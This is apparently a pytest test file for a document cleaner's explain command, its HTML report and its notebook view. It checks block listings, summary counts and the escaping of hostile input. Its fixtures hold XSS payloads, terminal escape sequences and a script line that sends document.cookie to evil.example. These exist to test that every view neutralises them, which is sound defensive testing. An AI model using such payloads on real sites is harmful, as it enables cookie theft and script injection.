"""cleaner explain: the terminal explanation, the HTML report and CleanDocument._repr_html_."""

from __future__ import annotations

import dataclasses
import io
import itertools
import re
from collections import Counter

import lxml.html
import pytest
from conftest import FIXTURES, HTML_FIXTURES, ROOT, SEED_FILES, run_cli
from rich.console import Console

from cleaner import clean, clean_file
from cleaner.output.explain import (
    BLOCKS,
    CLEAN_TEXT,
    notebook_html,
    print_explanation,
    reason_counts,
    render_html,
    render_text,
    report,
)

SEED = SEED_FILES[2]  # seeds/002_51033e559864e0e3.txt
ANSI = re.compile(r"\x1b\[")

HOSTILE = (
    "<script>alert('title')</script> Council approves the tram\n\n"
    "by <img src=x onerror=alert(1)>\n\n"
    + " ".join(["The council voted on Tuesday night to extend the tram line to the eastern districts."] * 4)
    + "\n\n"
    + "This website uses cookies. <script>document.location='https://evil.example/?'+document.cookie</script> "
    "By continuing to use this site, you accept our use of cookies.\n\n"
    'Source: <a href="javascript:alert(2)">"quoted" & \'single\'</a>\n'
)


@pytest.fixture
def plain_env(monkeypatch):
    """The subprocess must decide on its own that a pipe gets no colors: no variable may force them."""
    for name in ("FORCE_COLOR", "TTY_COMPATIBLE", "TTY_INTERACTIVE", "CLICOLOR_FORCE"):
        monkeypatch.delenv(name, raising=False)


def squash(text: str) -> str:
    return " ".join(text.split())


HAS_CLASS = 'contains(concat(" ", normalize-space(@class), " "), " {} ")'


def removed_elements(page: str) -> list:
    tree = lxml.html.fromstring(page)
    return tree.xpath(f"//*[{HAS_CLASS.format('removed')}]")


# ---------------------------------------------------------------- the command


def test_explain_lists_every_block_with_its_reason_and_no_ansi_when_piped(plain_env):
    doc = clean_file(SEED)
    assert len(doc.decisions) == 13 and len(doc.removed) == 6
    result = run_cli("explain", str(SEED.relative_to(ROOT)))
    assert result.returncode == 0, result.stderr.decode()
    out = result.stdout.decode("utf-8")
    assert not ANSI.search(out) and "\x1b" not in out
    headers = re.findall(
        r"^ *(\d+) (kept|removed)(?:  (\S+) · (\S+))?(?:(?: · |  )score ([\d.]+))?$", out, flags=re.MULTILINE
    )
    assert [int(index) for index, *_ in headers] == [d.block.index for d in doc.decisions]
    for (_, status, reason, rule, shown_score), decision in zip(headers, doc.decisions, strict=True):
        assert status == ("kept" if decision.keep else "removed")
        assert (reason, rule) == (("", "") if decision.keep else (decision.reason, decision.rule))
        assert shown_score == ("" if decision.score is None else f"{decision.score:.2f}")
    flat = squash(out)
    for decision in doc.decisions:
        assert squash(decision.block.text[:60]) in flat
    for reason, n in Counter(span.reason for span in doc.removed).items():
        chars = sum(len(span.text) for span in doc.removed if span.reason == reason)
        words = sum(len(span.text.split()) for span in doc.removed if span.reason == reason)
        assert re.search(rf"^{reason} +{n} +{words} +{chars}$", out, flags=re.MULTILINE), reason
    assert doc.title in flat and "author: Admin" in out
    assert result.stderr == b""


def test_explain_writes_the_html_report_and_says_where(tmp_path, plain_env):
    report = tmp_path / "report.html"
    result = run_cli("explain", str(SEED), "--html", str(report))
    assert result.returncode == 0
    assert str(report) in result.stderr.decode()
    page = report.read_text(encoding="utf-8")
    assert page == render_html(clean_file(SEED))
    assert len(removed_elements(page)) == 6


def test_explain_reads_stdin_with_mode_url_and_rules(tmp_path, plain_env):
    rules = tmp_path / "site.toml"
    rules.write_text(
        '[ruleset]\nclass = "subscription_prompt"\n\n[[rules]]\nid = "site.riverton.tram"\n'
        "pattern = '^construction is expected'\n"
        'positive = ["Construction is expected to begin next spring."]\n'
        'negative = ["The construction of the line was expected."]\n'
    )
    page = (FIXTURES / "html" / "01_cookie_consent_modal.html").read_bytes()
    result = run_cli(
        "explain", "-", "--mode", "html", "--url", "https://news.example/a", "--rules", str(rules), stdin=page
    )
    assert result.returncode == 0, result.stderr.decode()
    out = result.stdout.decode()
    assert "source: stdin" in out and "url: https://news.example/a" in out and "input: html" in out
    assert "removed  subscription_prompt · site.riverton.tram" in out


def test_failed_document_exits_1_with_one_line_error(plain_env, tmp_path):
    result = run_cli("explain", "-", stdin=b"")
    assert result.returncode == 1
    assert result.stdout == b""
    assert result.stderr.decode().splitlines() == ["cleaner: error: stdin: empty input"]
    missing = run_cli("explain", str(tmp_path / "missing.txt"), "--html", str(tmp_path / "r.html"))
    assert missing.returncode == 1
    assert len(missing.stderr.decode().splitlines()) == 1
    assert "cannot read file" in missing.stderr.decode()
    assert not (tmp_path / "r.html").exists()


def test_document_with_every_block_removed_is_still_explained_then_fails(tmp_path, plain_env):
    junk = tmp_path / "junk.txt"
    junk.write_text("Leave a Comment\n\nThis website uses cookies. By continuing you accept our use of cookies.\n")
    result = run_cli("explain", str(junk))
    assert result.returncode == 1
    assert "removed  cookie_banner" in result.stdout.decode()
    assert result.stderr.decode().strip().startswith(f"cleaner: error: {junk}: no article text found")


@pytest.mark.parametrize(
    "args",
    [
        ("explain",),
        ("explain", "a.txt", "b.txt"),
        ("explain", "seeds"),
        ("explain", "seeds/002_51033e559864e0e3.txt", "--mode", "pdf"),
        ("explain", "seeds/002_51033e559864e0e3.txt", "--rules", "no-such-rules.toml"),
    ],
)
def test_usage_errors_exit_2(args):
    assert run_cli(*args).returncode == 2


def test_malformed_rules_file_is_a_usage_error(tmp_path):
    bad = tmp_path / "bad.toml"
    bad.write_text("[ruleset\n")
    result = run_cli("explain", str(SEED), "--rules", str(bad))
    assert result.returncode == 2
    assert "bad.toml" in result.stderr.decode()


# ---------------------------------------------------------------- the terminal view


def test_terminal_view_does_not_obey_the_page():
    doc = clean(
        "Headline \x1b[31mred\x1b]8;;https://evil.example\x07 [bold]x[/bold] :smile: \u202egnp.exe\n\n" + HOSTILE
    )
    out = render_text(doc)
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b[31mred" in out and "\\u202egnp.exe" in out
    assert "[bold]x[/bold] :smile:" in out  # no rich markup, no emoji codes


def test_terminal_view_is_colored_on_a_terminal():
    buffer = io.StringIO()
    console = Console(file=buffer, force_terminal=True, color_system="standard", width=100)
    print_explanation(clean_file(SEED), console)
    out = buffer.getvalue()
    assert "\x1b[1;31mremoved\x1b[0m" in out and "\x1b[1;32mkept\x1b[0m" in out
    assert "\x1b[2;9mby Admin\x1b[0m" in out  # removed text: dim and struck through


def test_terminal_view_shortens_long_blocks_but_html_keeps_them():
    """The block listing shortens a long block; the clean text above it is the record's, in full."""
    doc = clean_file(SEED)
    longest = max(doc.decisions, key=lambda d: len(d.block.text)).block.text
    assert longest in doc.text
    out = render_text(doc, width=100)
    clean_part, blocks_part = out.split(f"\n{BLOCKS}\n")
    assert squash(longest) not in squash(blocks_part) and "chars]" in blocks_part
    assert squash(longest) in squash(clean_part)
    assert squash(longest) in squash(render_text(doc, max_chars=None).split(f"\n{BLOCKS}\n")[1])
    assert longest in lxml.html.fromstring(render_html(doc)).text_content()


# ---------------------------------------------------------------- the HTML report


def test_render_html_escapes_hostile_content():
    doc = clean(HOSTILE, mode="text", url='javascript:alert(3)"><script>alert(4)</script>')
    assert doc.error is None and len(doc.removed) >= 2
    page = render_html(doc)
    assert "<script" not in page.lower()
    assert "<img" not in page.lower() and "<a " not in page.lower()
    assert "&lt;script&gt;document.location=" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&quot;&gt;&lt;script&gt;alert(4)" in page
    tree = lxml.html.fromstring(page)
    assert not tree.xpath("//script | //img | //a | //iframe | //*[@onerror] | //link | //@src")
    text = tree.text_content()
    assert "<script>document.location='https://evil.example/?'+document.cookie</script>" in text
    assert "\"quoted\" & 'single'" in text
    removed = removed_elements(page)
    assert [el.get("data-reason") for el in removed] == [span.reason for span in doc.removed]
    assert [el.get("data-rule") for el in removed] == [span.rule for span in doc.removed]


def test_render_html_shows_metadata_every_block_in_order_and_labels():
    doc = clean_file(FIXTURES / "html" / "01_cookie_consent_modal.html", url="https://news.example/tram")
    tree = lxml.html.fromstring(render_html(doc))
    assert tree.xpath("string(//h1)") == doc.title
    meta = dict(zip(tree.xpath("//dl/dt/text()"), tree.xpath("//dl/dd/text()"), strict=True))
    assert meta["author"] == doc.author and meta["date"] == doc.date and meta["model"] == doc.provenance.model_version
    blocks = tree.xpath('//main//*[contains(@class, "block")]')
    assert [int(el.get("data-index")) for el in blocks] == [d.block.index for d in doc.decisions]
    for element, decision in zip(blocks, doc.decisions, strict=True):
        if decision.keep:
            assert element.tag == "p" and element.get("class") == "block kept"
            assert element.text_content() == decision.block.text
        else:
            assert element.xpath("string(del)") == decision.block.text
            label = f"{decision.reason} · {decision.rule}"
            if decision.score is not None:
                label += f" · score {decision.score:.2f}"
            assert element.xpath("string(span[@class='label'])") == label
    assert "\n\n".join(el.text_content() for el in blocks if "kept" in el.get("class")) == doc.text
    assert not tree.xpath("//script | //link | //@src") and "url(" not in render_html(doc)


@pytest.mark.parametrize(
    "path", [*SEED_FILES, FIXTURES / "html" / "01_cookie_consent_modal.html"], ids=lambda p: p.name
)
def test_summary_table_counts_match_removed(path):
    doc = clean_file(path)
    expected = {
        reason: (n, sum(len(span.text) for span in doc.removed if span.reason == reason))
        for reason, n in Counter(span.reason for span in doc.removed).items()
    }
    assert {r.reason: (r.blocks, r.characters) for r in reason_counts(doc)} == expected
    tree = lxml.html.fromstring(render_html(doc))
    rows = tree.xpath("//table[@class='summary']/tbody/tr[@data-reason]")
    shown = {row.get("data-reason"): (int(row[1].text), int(row[3].text)) for row in rows}
    assert shown == expected
    words = {reason: sum(len(s.text.split()) for s in doc.removed if s.reason == reason) for reason in expected}
    assert {row.get("data-reason"): int(row[2].text) for row in rows} == words
    total = tree.xpath("//table[@class='summary']/tfoot/tr/td/text()")
    assert total == [
        "total removed",
        str(len(doc.removed)),
        str(sum(words.values())),
        str(sum(len(s.text) for s in doc.removed)),
    ]
    assert len(removed_elements(render_html(doc))) == len(doc.removed)


def test_nothing_removed_says_so():
    doc = clean_file(SEED_FILES[1])  # 001 is a clean article
    assert doc.removed == ()
    page = render_html(doc)
    assert "nothing was removed" in page and not removed_elements(page)


def test_failed_document_report_shows_the_error():
    page = render_html(clean(b"\x89PNG\r\n\x1a\n\x00\x00"))
    tree = lxml.html.fromstring(page)
    assert "not text" in tree.xpath("string(//dd[@class='error'])")
    assert "0 blocks" in tree.xpath("string(//p[@class='counts'])")


def test_repr_html_is_the_notebook_view_and_report_shows_the_whole_report():
    doc = clean_file(SEED)
    assert doc._repr_html_() == notebook_html(doc)
    assert 'class="cleaner-report notebook"' in doc._repr_html_()
    full = report(doc)._repr_html_()
    assert full in render_html(doc) and 'class="cleaner-report"' in full
    assert len(removed_elements(full)) == len(doc.removed) and not removed_elements(doc._repr_html_())


def test_a_score_is_shown_only_where_a_decision_has_one():
    """Rules give no score; the model's decisions show theirs, in both views."""
    doc = clean_file(SEED)
    scored = [d for d in doc.decisions if d.score is not None]
    unscored = [d for d in doc.decisions if d.score is None]
    assert unscored, "rule decisions carry no score"
    text, page = render_text(doc), render_html(doc)
    assert text.count("score ") == len(scored)
    assert page.count("data-score=") == len(scored)
    for decision in scored:
        assert f'data-score="{decision.score:.4f}"' in page

    rescored = dataclasses.replace(doc, decisions=tuple(dataclasses.replace(d, score=0.25) for d in doc.decisions))
    byline = next(d for d in doc.decisions if d.reason == "byline")
    assert f"byline · {byline.rule} · score 0.25" in render_text(rescored)
    assert 'data-score="0.2500"' in render_html(rescored)


# ---------------------------------------------------------------- the article first, the menus folded

LONG_MENU = FIXTURES / "explain" / "long_menu.html"  # a cookie notice and a menu of 90-odd links before the story


def expected_runs(doc) -> list[tuple[str | None, list]]:
    """Each kept block alone; removed blocks in a row that share a reason together."""
    found: list[tuple[str | None, list]] = []
    for decision in doc.decisions:
        reason = None if decision.keep else decision.reason
        if found and reason is not None and found[-1][0] == reason:
            found[-1][1].append(decision)
        else:
            found.append((reason, [decision]))
    return found


def words(decisions) -> int:
    return sum(len(d.block.text.split()) for d in decisions)


def test_report_leads_with_the_summary_then_the_clean_text_then_the_page():
    doc = clean_file(LONG_MENU)
    page = render_html(doc)
    tree = lxml.html.fromstring(page)
    (body,) = tree.xpath('//div[@class="cleaner-report"]')
    assert [f"{el.tag}.{el.get('class')}" for el in body] == ["header.overview", "section.clean-text", "main.blocks"]
    overview, clean_text, _ = body
    assert overview.xpath("string(h1)") == doc.title
    by_reason = Counter(span.reason for span in doc.removed)
    assert overview.xpath(".//table[@class='summary']/tbody/tr/@data-reason") == sorted(
        by_reason, key=lambda reason: (-by_reason[reason], reason)
    )
    kept = [d for d in doc.decisions if d.keep]
    removed = [d for d in doc.decisions if not d.keep]
    assert overview.xpath("string(.//p[@class='counts'])") == (
        f"{len(doc.decisions)} blocks: {len(kept)} kept ({words(kept)} words), "
        f"{len(removed)} removed ({words(removed)} words)"
    )
    shown = clean_text.xpath(".//*[contains(@class, 'para')]")
    assert "\n\n".join(el.text_content() for el in shown) == doc.text
    assert shown[0].tag == "h3" and shown[0].text_content() == doc.title  # the kept heading
    assert [el.tag for el in shown[1:]] == ["p"] * 6
    # in the page's own order the story's first paragraph comes before any block of the menu
    first = doc.text.split("\n\n")[1]
    assert page.index(first) < page.index('class="block') and page.index(first) < page.index("Fishing industry")


def test_runs_of_removed_blocks_are_folded_under_their_reason_with_counts():
    doc = clean_file(LONG_MENU)
    tree = lxml.html.fromstring(render_html(doc))
    (main,) = tree.xpath("//main")
    shown = []
    for element in main.xpath("./details | ./*[contains(@class, 'block')]"):
        if element.tag == "details":
            blocks = element.xpath("./div[contains(@class, 'removed')]")
            shown.append((element.get("data-reason"), [int(b.get("data-index")) for b in blocks]))
        else:
            shown.append((None, [int(element.get("data-index"))]))
    runs = expected_runs(doc)
    assert shown == [(reason, [d.block.index for d in group]) for reason, group in runs]
    assert any(a[0] and b[0] and a[0] != b[0] for a, b in itertools.pairwise(runs))  # two reasons, two runs

    details = main.xpath("./details")
    assert len(details) == sum(1 for reason, _ in runs if reason)
    for element, (reason, group) in zip(details, [r for r in runs if r[0]], strict=True):
        n = len(group)
        headline = f"{reason} × {n} block{'s' if n > 1 else ''} ({words(group)} word{'s' if words(group) != 1 else ''})"
        assert element.xpath("string(summary/span[@class='headline'])") == headline
        assert element.get("open") is None  # folded until asked
        assert (element.get("data-blocks"), element.get("data-words")) == (str(n), str(words(group)))
        assert (element.get("data-first"), element.get("data-last")) == (
            str(group[0].block.index),
            str(group[-1].block.index),
        )
    menu = max(range(len(details)), key=lambda n: int(details[n].get("data-blocks")))
    assert details[menu].get("data-reason") == "navigation" and int(details[menu].get("data-blocks")) > 80
    assert int(details[menu].get("data-last")) < next(d.block.index for d in doc.decisions if d.keep)  # a menu first
    assert details[menu].xpath("string(summary/span[@class='headline'])").startswith("navigation × ")
    assert len(removed_elements(render_html(doc))) == len(doc.removed)
    assert tree.xpath(f"//*[{HAS_CLASS.format('removed')}][not(ancestor::details)]") == []
    assert tree.xpath(f"//*[{HAS_CLASS.format('kept')}][ancestor::details]") == []


def test_each_reason_in_the_summary_filters_its_runs():
    doc = clean_file(LONG_MENU)
    tree = lxml.html.fromstring(render_html(doc))
    rows = tree.xpath("//table[@class='summary']/tbody/tr[@data-reason]")
    number = {row.get("data-reason"): row.xpath("string(.//input[@type='checkbox']/@data-r)") for row in rows}
    assert sorted(number.values()) == [str(n) for n in range(len(rows))]
    assert all(box.get("checked") is not None for box in tree.xpath("//input[@type='checkbox']"))
    runs = tree.xpath("//details[@class='run']")
    assert {run.get("data-reason") for run in runs} == set(number)
    for run in runs:
        assert run.get("data-r") == number[run.get("data-reason")]
    css = tree.xpath("string(//style)")
    for n in number.values():
        assert f'.cleaner-report:has(input[data-r="{n}"]:not(:checked)) .run[data-r="{n}"] {{ display: none; }}' in css


def big_page(menu: int = 1500, paragraphs: int = 150) -> str:
    links = "".join(f'<li><a href="/s/{n}">Section {n}</a></li>' for n in range(menu))
    story = "".join(
        f"<p>On day {n} of the inquiry the harbour commission heard from skippers, engineers and residents about"
        f" the north quay wall, which has moved by {n % 7 + 2} centimetres since the winter storms.</p>"
        for n in range(paragraphs)
    )
    return (
        "<html><head><title>The quay inquiry</title></head><body>"
        f"<nav><ul>{links}</ul></nav><main><article><h1>The quay inquiry</h1>{story}</article></main></body></html>"
    )


def test_notebook_view_stays_small_for_a_big_page_while_the_report_holds_every_block():
    doc = clean(big_page(), mode="html")
    assert len(doc.decisions) > 1600 and len(doc.removed) >= 1500
    short = doc._repr_html_()
    assert short == notebook_html(doc)
    assert len(short.encode()) < 12_000
    tree = lxml.html.fromstring(short)
    assert not tree.xpath("//details | //*[contains(@class, 'block')] | //input")
    rows = tree.xpath("//table[@class='summary']/tbody/tr[@data-reason]")
    assert {row.get("data-reason"): int(row[1].text) for row in rows} == {
        r.reason: r.blocks for r in reason_counts(doc)
    }
    paragraphs = doc.text.split("\n\n")
    shown = tree.xpath("//section[@class='clean-text']/*[contains(@class, 'para')]")
    assert 1 < len(shown) < len(paragraphs)
    assert shown[1].text_content() == paragraphs[1]  # the story's first paragraph, in full
    more = len(paragraphs) - len(shown)
    assert tree.xpath("string(//p[@class='more'])").startswith(f"… {more} more paragraphs (")
    assert "cleaner.output.explain.report(doc)" in tree.xpath("string(//p[@class='howto'])")

    full = render_html(doc)
    assert len(full.encode()) > 30 * len(short.encode())
    blocks = lxml.html.fromstring(full).xpath("//main//*[contains(@class, 'block')]")
    assert [int(b.get("data-index")) for b in blocks] == [d.block.index for d in doc.decisions]


def test_hostile_reasons_rules_and_text_stay_text_in_every_view():
    """A reason or rule (from a user's rule file) and the page's text never become markup, CSS or script."""
    doc = clean(HOSTILE, mode="text")
    doc = dataclasses.replace(doc, title="<script>alert('t')</script>" + "x" * 5000)
    evil = "</style><script>alert(5)</script><style>} * { display: none"
    doc = dataclasses.replace(
        doc, decisions=tuple(d if d.keep else dataclasses.replace(d, reason=evil, rule=evil) for d in doc.decisions)
    )
    for page in (render_html(doc), notebook_html(doc), report(doc)._repr_html_()):
        assert "<script" not in page.lower() and "</style><" not in page
        tree = lxml.html.fromstring(page)
        assert not tree.xpath("//script | //img | //a | //iframe | //*[@onerror] | //link | //@src")
        css = tree.xpath("string(//style)")
        assert "alert" not in css and "display: none\n" not in css.replace("{ display: none; }", "")
        assert "<script>alert('t')</script>" in tree.text_content()
    page = render_html(doc)
    tree = lxml.html.fromstring(page)
    assert tree.xpath("//details/@data-reason") and set(tree.xpath("//details/@data-reason")) == {evil}
    assert evil in tree.xpath("string(//details/summary)")
    assert len(notebook_html(doc)) < 12_000  # a metadata value is shortened there
    assert "\\x1b" in render_text(
        dataclasses.replace(
            doc,
            decisions=(
                dataclasses.replace(doc.decisions[0], keep=False, reason="nav\x1b[31m"),
                *doc.decisions[1:],
            ),
        )
    )


def test_terminal_view_leads_with_the_summary_then_the_clean_text_then_runs():
    doc = clean_file(LONG_MENU)
    out = render_text(doc, width=100)
    lines = [line.strip() for line in out.splitlines()]
    kept = [d for d in doc.decisions if d.keep]
    counts = f"{len(doc.decisions)} blocks: {len(kept)} kept ({words(kept)} words)"
    first = doc.text.split("\n\n")[1]
    order = [
        out.index(counts),
        out.index("Removed, by reason"),
        out.index(f"\n{CLEAN_TEXT}\n"),
        out.index(first[:60]),
        out.index(f"\n{BLOCKS}\n"),
        out.index("Fishing industry"),
    ]
    assert order == sorted(order)
    for reason, group in expected_runs(doc):
        if reason and len(group) > 1:
            first_index, last_index = group[0].block.index, group[-1].block.index
            headline = f"{reason} × {len(group)} blocks ({words(group)} words), blocks {first_index}-{last_index}"
            assert headline in lines
    reason, menu = max(expected_runs(doc), key=lambda run: len(run[1]))
    assert reason == "navigation" and len(menu) > 80


def test_explain_takes_the_preset_and_the_main_content_verdict(plain_env):
    """The decisions explained are those of the options asked for: the region's rule where it decided."""
    page = HTML_FIXTURES[0]
    region = run_cli("explain", str(page), "--main-content", "region")
    assert region.returncode == 0, region.stderr.decode()
    doc = clean_file(page, main_content="region")
    assert "trafilatura" not in {d.rule for d in doc.decisions}
    for decision in doc.decisions:
        if not decision.keep:
            assert decision.rule in region.stdout.decode("utf-8")
    fast = run_cli("explain", str(page), "--preset", "fast")
    assert fast.returncode == 0
    headers = re.findall(r"^ *\d+ (?:kept|removed)", fast.stdout.decode("utf-8"), flags=re.MULTILINE)
    assert len(headers) == len(clean_file(page, preset="fast").decisions) != len(doc.decisions)
    refused = run_cli("explain", str(page), "--preset", "fast", "--main-content", "auto")
    assert refused.returncode == 2 and b"the fast preset reads resiliparse's" in refused.stderr
